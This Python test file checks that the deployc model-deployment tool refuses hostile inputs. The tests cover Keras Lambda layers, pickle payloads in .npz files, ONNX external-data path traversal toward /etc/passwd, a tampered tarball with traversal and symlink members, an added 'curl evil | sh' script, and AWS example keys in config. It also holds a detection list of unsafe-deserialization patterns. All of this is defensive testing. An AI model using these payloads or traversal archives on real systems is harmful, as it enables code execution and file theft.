"""Untrusted inputs stay data: no code runs from a model, a data file or a bundle, and no file is read or written
outside where it belongs.

Keras models load in safe mode (a Lambda layer is refused), ONNX external data may not leave the model's folder,
.npz files load without pickle, the SageMaker model.tar.gz holds only plain relative files, `deployc deploy`
refuses a bundle changed after the build, and AWS credentials in deploy.yaml are refused with their position.
"""
from __future__ import annotations

import io
import re
import tarfile
from pathlib import Path

import numpy as np
import pytest
from aws_support import emit_context, spec_for, tiny_onnx, write_bundle
from conftest import ROOT, run_deployc

from deployc.errors import InputError
from deployc.targets.sagemaker import SageMakerTarget

SPEC = """\
apiVersion: deployc/v1
name: sec
model: {path: MODEL}
DATA
targets:
  local: {}
"""


def spec(folder: Path, model: str, data: str = "") -> Path:
    path = folder / "deploy.yaml"
    path.write_text(SPEC.replace("MODEL", model).replace("DATA", data))
    return path


def assert_refused(r: object, *needles: str) -> None:
    rc, err = r.returncode, r.stderr  # type: ignore[attr-defined]
    assert rc == 1, (rc, err)
    assert "Traceback" not in err, err
    for n in needles:
        assert n in err, err


class Payload:
    """Unpickling this creates `marker`: proof that a pickle was executed."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


@pytest.mark.slow
def test_keras_lambda_layer_is_refused_in_safe_mode(tmp_path: Path) -> None:
    """Lambda layers carry Python bytecode; loading one with safe_mode=True must fail before anything runs."""
    import keras

    marker = tmp_path / "lambda-ran"
    inputs = keras.Input((4,))
    outputs = keras.layers.Lambda(lambda x: x * 2.0, name="doubling")(inputs)
    keras.Model(inputs, keras.layers.Dense(3)(outputs)).save(tmp_path / "model.keras")
    spec(tmp_path, "model.keras")
    r = run_deployc("build", "deploy.yaml", "-q", "--out", str(tmp_path / "out"), cwd=tmp_path,
                    cache_dir=tmp_path / "cache", timeout=300)
    # validate finds it in the archive's config.json, before anything loads
    assert_refused(r, "deploy.yaml:3:", "model.path: the model holds Python code (Lambda layer 'doubling')",
                   "refuses to load (Keras safe mode)")
    assert not marker.exists() and not (tmp_path / "out").exists()

    from deployc.ml.convert import load_keras

    with pytest.raises(InputError, match=r"refuses to load \(Keras safe mode\)"):  # and loading refuses it too
        load_keras(tmp_path / "model.keras")


def _keras_archive(path: Path, layers: list[dict[str, object]]) -> None:
    """A .keras archive with just the config.json that validate reads (a functional model holding `layers`)."""
    import json
    import zipfile

    config = {"class_name": "Functional", "config": {"name": "m", "layers": layers, "input_layers": [["x", 0, 0]],
                                                     "output_layers": [["out", 0, 0]]}}
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("config.json", json.dumps(config))
        z.writestr("metadata.json", "{}")


LAMBDA = {"class_name": "Lambda", "config": {"name": "hidden", "function": {"class_name": "__lambda__"}}}


@pytest.mark.parametrize("allow", [False, True])
def test_validate_finds_a_lambda_layer_nested_in_the_archive(tmp_path: Path, allow: bool) -> None:
    inner = {"class_name": "Sequential", "config": {"name": "block", "layers": [
        {"class_name": "Dense", "config": {"name": "d"}},
        {"class_name": "TimeDistributed", "config": {"name": "td", "layer": LAMBDA}}]}}
    _keras_archive(tmp_path / "model.keras", [
        {"class_name": "InputLayer", "name": "x", "config": {"name": "x", "batch_shape": [None, 4]}}, inner])
    path = spec(tmp_path, "model.keras")
    if allow:
        path.write_text(path.read_text().replace("{path: model.keras}", "{path: model.keras, allow_python_code: true}"))
    r = run_deployc("validate", "deploy.yaml", cwd=tmp_path)
    if allow:
        assert r.returncode == 0, r.stderr
    else:
        assert_refused(r, "deploy.yaml:3:", "model.path: the model holds Python code (Lambda layer 'hidden')")


def test_validate_passes_a_keras_archive_of_built_in_layers(tmp_path: Path) -> None:
    _keras_archive(tmp_path / "model.keras", [
        {"class_name": "InputLayer", "name": "x", "config": {"name": "x", "batch_shape": [None, 4]}},
        {"class_name": "Dense", "config": {"name": "out"}}])
    spec(tmp_path, "model.keras")
    r = run_deployc("validate", "deploy.yaml", cwd=tmp_path)
    assert r.returncode == 0, r.stderr


def _onnx_with_external_data(path: Path, location: str) -> None:
    """A valid graph whose weight claims to live in `location` (external data), as a hostile file would."""
    from onnx import TensorProto, helper

    weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 3])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "48")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["N", 3])], [weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 9
    path.write_bytes(model.SerializeToString())


@pytest.mark.parametrize("location", ["../../etc/passwd", "/etc/passwd", "sub/../../outside.bin"])
def test_onnx_external_data_outside_the_model_folder_is_refused(tmp_path: Path, location: str) -> None:
    from deployc.ml.convert import copy_onnx

    folder = tmp_path / "project"
    folder.mkdir()
    (tmp_path / "outside.bin").write_bytes(b"\0" * 48)
    _onnx_with_external_data(folder / "model.onnx", location)
    with pytest.raises(InputError, match="leaves the model's folder"):
        copy_onnx(folder / "model.onnx", tmp_path / "copy.onnx")
    assert not (tmp_path / "copy.onnx").exists()


def test_build_refuses_onnx_external_data_traversal(tmp_path: Path) -> None:
    _onnx_with_external_data(tmp_path / "model.onnx", "../../etc/passwd")
    spec(tmp_path, "model.onnx")
    r = run_deployc("build", "deploy.yaml", "-q", "--out", str(tmp_path / "out"), cwd=tmp_path,
                    cache_dir=tmp_path / "cache", timeout=300)
    assert_refused(r, "external data location '../../etc/passwd' leaves the model's folder")
    assert not (tmp_path / "out").exists()


def test_npz_holding_a_pickle_is_refused_not_executed(tmp_path: Path) -> None:
    marker = tmp_path / "pickle-ran"
    x = np.empty((2,), dtype=object)
    x[0], x[1] = Payload(marker), Payload(marker)
    np.savez(tmp_path / "eval.npz", x=x, y=np.array([0, 1]))
    assert not marker.exists()
    tiny_onnx(tmp_path / "model.onnx")
    spec(tmp_path, "model.onnx", "data:\n  eval: {path: eval.npz, x: x, y: y}")
    r = run_deployc("build", "deploy.yaml", "-q", "--out", str(tmp_path / "out"), cwd=tmp_path,
                    cache_dir=tmp_path / "cache", timeout=300)
    assert_refused(r, "deploy.yaml:5:29: data.eval.x: eval.npz: array 'x' cannot be loaded", "allow_pickle=False")
    assert not marker.exists()


FORBIDDEN = {
    r"\bimport pickle\b|\bpickle\.loads?\(": "pickle",
    r"allow_pickle\s*=\s*True": "allow_pickle=True",
    r"\bjoblib\b|\bdill\b|\bcloudpickle\b|\bmarshal\.loads\(": "an unpickler",
    r"enable_unsafe_deserialization": "Keras unsafe deserialization",
    r"safe_mode\s*=\s*False": "safe_mode=False",
    r"\bextractall\((?![^)]*filter=)": "extractall without filter",
    r"typ\s*=\s*[\"']unsafe[\"']|unsafe_load\(|Loader\s*=\s*(yaml\.)?(Unsafe|Full)?Loader\b": "an unsafe YAML loader",
    r"(?<![\w.])(eval|exec)\(": "eval/exec",
    r"jinja2\.Environment\(|from jinja2 import Environment": "an unsandboxed Jinja environment",
}


def test_no_unsafe_deserialization_in_the_source() -> None:
    """No pickle, no unsafe loaders, no eval anywhere in deployc (allow_pickle=False on every np.load)."""
    problems = []
    for path in sorted((ROOT / "deployc").rglob("*.py")):
        text = path.read_text()
        for pattern, what in FORBIDDEN.items():
            for m in re.finditer(pattern, text):
                line = text[: m.start()].count("\n") + 1
                problems.append(f"{path.relative_to(ROOT)}:{line}: {what}")
        for m in re.finditer(r"np\.load\(([^()]|\([^()]*\))*\)", text):
            if "allow_pickle=False" not in m.group(0):
                problems.append(f"{path.relative_to(ROOT)}:{text[: m.start()].count(chr(10)) + 1}: np.load without "
                                "allow_pickle=False")
    assert problems == []


def test_sagemaker_model_tarball_members_are_plain_relative_files(tmp_path: Path) -> None:
    files = SageMakerTarget().emit(emit_context(spec_for({}), tiny_onnx(tmp_path / "model.onnx")))
    with tarfile.open(fileobj=io.BytesIO(files["sagemaker/model.tar.gz"]), mode="r:gz") as tar:
        members = tar.getmembers()
        for m in members:
            assert m.isreg() and not m.issym() and not m.islnk(), m.name
            assert not m.name.startswith("/") and ".." not in Path(m.name).parts and "\\" not in m.name, m.name
            assert m.mode == 0o644 and (m.uid, m.gid) == (0, 0)
        tar.extractall(tmp_path / "unpacked", filter="data")  # PEP 706: refuses anything unsafe
    assert sorted(p.name for p in (tmp_path / "unpacked").iterdir()) == ["labels.txt", "model.onnx", "serving.json"]


def _evil_tarball() -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        info = tarfile.TarInfo("../../../tmp/deployc-evil")
        data = b"owned"
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("serving.json")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
    return raw.getvalue()


@pytest.mark.parametrize("tamper", ["replace-tarball", "add-file", "edit-plan"])
def test_deploy_refuses_a_bundle_changed_after_the_build(tmp_path: Path, tamper: str) -> None:
    files = SageMakerTarget().emit(emit_context(spec_for({}), tiny_onnx(tmp_path / "model.onnx")))
    build = write_bundle(tmp_path / "build", files)
    r = run_deployc("deploy", str(build), "--target", "sagemaker", "--dry-run", timeout=120)
    assert r.returncode == 0, r.stderr  # the untouched bundle is accepted
    if tamper == "replace-tarball":
        (build / "sagemaker" / "model.tar.gz").write_bytes(_evil_tarball())
        needle = "sagemaker/model.tar.gz: modified since the build"
    elif tamper == "add-file":
        (build / "sagemaker" / "extra.sh").write_text("curl evil | sh\n")
        needle = "sagemaker/extra.sh: not part of the build"
    else:
        plan = build / "sagemaker" / "deploy-plan.json"
        plan.write_text(plan.read_text().replace("deployc-models", "attacker-bucket"))
        needle = "sagemaker/deploy-plan.json: modified since the build"
    r = run_deployc("deploy", str(build), "--target", "sagemaker", "--dry-run", timeout=120)
    assert_refused(r, "the build does not match its manifest", needle)
    assert "would call" not in r.stdout + r.stderr
    assert not Path("/tmp/deployc-evil").exists()


CREDENTIALS = """\
apiVersion: deployc/v1
name: creds
model: {path: model.onnx}
targets:
  sagemaker:
    region: us-east-1
    role_arn: arn:aws:iam::123456789012:role/deployc
    image_uri: 123456789012.dkr.ecr.us-east-1.amazonaws.com/deployc-serve:0.1.0
    s3_prefix: s3://deployc-models/models
    environment:
      LOG_LEVEL: debug
      ENTRY
    tags:
      team: ml
"""


@pytest.mark.parametrize("entry,where,what", [
    ("AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE", "environment", "'AWS_ACCESS_KEY_ID' holds what looks like an AWS "
     "access key id"),
    ("AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "environment",
     "'AWS_SECRET_ACCESS_KEY' holds what looks like an AWS secret access key"),
    ("CONFIG: 'aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'", "environment",
     "'CONFIG' holds what looks like an AWS secret access key"),
    ("SESSION: ASIAIOSFODNN7EXAMPLE", "environment", "'SESSION' holds what looks like an AWS access key id"),
])
def test_credentials_in_the_spec_are_refused_with_their_position(tmp_path: Path, entry: str, where: str,
                                                                 what: str) -> None:
    (tmp_path / "deploy.yaml").write_text(CREDENTIALS.replace("ENTRY", entry))
    tiny_onnx(tmp_path / "model.onnx")
    r = run_deployc("validate", "deploy.yaml", cwd=tmp_path, timeout=60)
    assert_refused(r, what, "credentials never go in the spec")
    (line,) = r.stderr.splitlines()
    key = entry.split(":")[0]
    assert line.startswith("deploy.yaml:12:") and f": targets.sagemaker.{where}.{key}: " in line  # the entry itself
    assert entry.split(": ", 1)[1].strip("'") not in r.stderr  # the secret itself is not echoed


def test_credentials_in_tags_are_refused(tmp_path: Path) -> None:
    (tmp_path / "deploy.yaml").write_text(CREDENTIALS.replace("      ENTRY\n", "").replace(
        "team: ml", "team: ml\n      owner: AKIAIOSFODNN7EXAMPLE"))
    tiny_onnx(tmp_path / "model.onnx")
    r = run_deployc("validate", "deploy.yaml", cwd=tmp_path, timeout=60)
    assert_refused(r, "deploy.yaml:14:14: targets.sagemaker.tags.owner: 'owner' holds what looks like an AWS access "
                      "key id")


@pytest.mark.slow
def test_keras_lambda_layer_builds_when_the_spec_allows_python_code(tmp_path: Path) -> None:
    """The explicit opt-in: the Lambda runs, and the ONNX artifact computes what the Keras model does."""
    import keras

    inputs = keras.Input((4,), name="x")
    doubled = keras.layers.Lambda(lambda x: x * 2.0, name="doubling")(inputs)
    model = keras.Model(inputs, keras.layers.Dense(3, activation="softmax")(doubled))
    model.save(tmp_path / "model.keras")
    x = np.random.default_rng(0).random((8, 4)).astype("float32")
    np.savez(tmp_path / "eval.npz", x=x)
    (tmp_path / "deploy.yaml").write_text(
        "apiVersion: deployc/v1\nname: lambda\nmodel: {path: model.keras, allow_python_code: true}\n"
        "data: {eval: {path: eval.npz}}\ngates: {max_abs_error: 0.00001}\nmeasure: {min_seconds: 0.05}\n"
        "targets: {local: {}}\n")
    r = run_deployc("build", "deploy.yaml", "-q", "--out", str(tmp_path / "out"), cwd=tmp_path,
                    cache_dir=tmp_path / "cache", timeout=300)
    assert r.returncode == 0, r.stderr
    import onnxruntime as ort

    sess = ort.InferenceSession(str(tmp_path / "out" / "local" / "model.onnx"))
    got = sess.run(None, {"x": x})[0]
    assert np.allclose(got, model.predict(x, verbose=0), atol=1e-5)
